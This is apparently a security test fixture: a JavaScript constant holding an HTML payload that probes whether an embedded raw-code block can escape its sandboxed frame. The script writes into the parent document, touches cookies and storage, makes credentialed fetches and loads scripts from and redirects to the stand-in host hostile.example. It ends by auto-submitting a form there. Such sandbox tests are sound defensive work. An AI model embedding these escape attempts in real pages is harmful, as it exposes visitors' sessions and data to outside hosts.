/**
 * Code for a `core/raw_code` block that tries to access everything outside its frame. It
 * writes the results as JSON into `#probe` in its document; a blocked access is `closed`.
 */
export const RAW_CODE_PROBE = `<pre id="probe"></pre><script>
const results = {};
async function attempt(name, action) {
  try { results[name] = (await action()) ?? 'open'; } catch { results[name] = 'closed'; }
}
const timeout = new Promise((resolve) => setTimeout(resolve, 1000, 'closed'));
const loads = (element, address) => Promise.race([timeout, new Promise((resolve, reject) => {
  element.onload = () => resolve('open');
  element.onerror = () => reject(new Error('closed'));
  element[element.tagName === 'LINK' ? 'href' : 'src'] = address;
  document.head.append(element);
})]);
(async () => {
  await attempt('parent document', () => { parent.document.documentElement.dataset.hostile = 'ran'; });
  await attempt('top address', () => { top.location.href.length; });
  await attempt('parent globals', () => Object.keys(parent.sessionStorage).join());
  await attempt('frame element', () => window.frameElement === null ? 'closed' : 'open');
  await attempt('own origin', () => self.origin === 'null' ? 'closed' : 'open');
  await attempt('cookie', () => { document.cookie = 'hostile=1'; });
  await attempt('local storage', () => { localStorage.setItem('hostile', '1'); });
  await attempt('session storage', () => { sessionStorage.setItem('hostile', '1'); });
  await attempt('database', () => { indexedDB.open('hostile'); });
  await attempt('caches', () => caches.open('hostile').then(() => 'open'));
  await attempt('worker of the site', () => navigator.serviceWorker.register('/sw.js').then(() => 'open'));
  await attempt('fetch of the site', () => fetch('/api/v1/cognito/domain/currentDomain', { mode: 'no-cors', credentials: 'include' }).then(() => 'open'));
  await attempt('fetch elsewhere', () => fetch('https://hostile.example/', { mode: 'no-cors' }).then(() => 'open'));
  await attempt('picture of the site', () => loads(new Image(), '/favicon.svg'));
  await attempt('script of elsewhere', () => loads(document.createElement('script'), 'https://hostile.example/x.js'));
  await attempt('beacon', () => navigator.sendBeacon('/_report', 'hostile') ? 'queued' : 'closed');
  await attempt('eval', () => { new Function('return 1')(); });
  await attempt('window', () => window.open('/', 'hostile') === null ? 'closed' : 'open');
  await attempt('top navigation', () => { if (top === self) throw new Error('closed'); top.location.href = 'https://hostile.example/'; });
  await attempt('referrer', () => document.referrer === '' ? 'closed' : document.referrer);
  alert('hostile');
  document.getElementById('probe').textContent = JSON.stringify(results);
})();
</script><form action="https://hostile.example/" method="post"><input name="x" value="1"></form>
<script>document.forms[0].submit()</script>`;
